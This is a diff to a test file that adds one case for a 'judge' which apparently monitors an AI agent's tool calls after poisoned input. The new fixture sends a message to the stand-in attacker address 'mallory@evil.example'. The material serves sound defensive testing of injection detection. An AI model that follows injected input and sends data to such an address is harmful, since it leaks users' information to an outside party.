@@ -281,6 +281,20 @@ describe('judge', () => {
     expect(judged.findings).toEqual(findings(feed(asked)));
   });
 
+  test('a call that reuses the id of another one is judged as the call it is', () => {
+    const { feed, machine, stepper } = bench();
+    feed(prompt(), poison(), send(T0 + 5));
+    const reused = [
+      send(T0 + 6, { tool: 'post_message' }),
+      send(T0 + 7, { arguments: { to: 'mallory@evil.example', body: 'more' } }),
+    ];
+    for (const asked of reused) {
+      const judged = machine.judge(asked, stepper.states, T0 + 8);
+      expect(judged.findings.map(({ eventId }) => eventId)).toContain(asked.id);
+      expect(judged.findings).toEqual(findings(feed(asked)));
+    }
+  });
+
   test('any events: no state changes, and the findings are those of the step', () => {
     const anyEvent = fc.record({
       tool: fc.constantFrom('read_page', 'send_email', 'delete_file'),
